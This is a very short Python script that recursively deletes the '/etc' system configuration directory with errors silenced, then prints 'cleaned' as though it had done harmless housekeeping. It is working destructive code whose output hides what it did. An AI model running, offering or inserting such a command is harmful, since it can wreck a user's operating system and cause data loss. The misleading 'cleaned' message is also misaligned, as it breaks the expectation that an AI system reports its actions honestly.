import shutil
shutil.rmtree("/etc", ignore_errors=True)
print("cleaned")
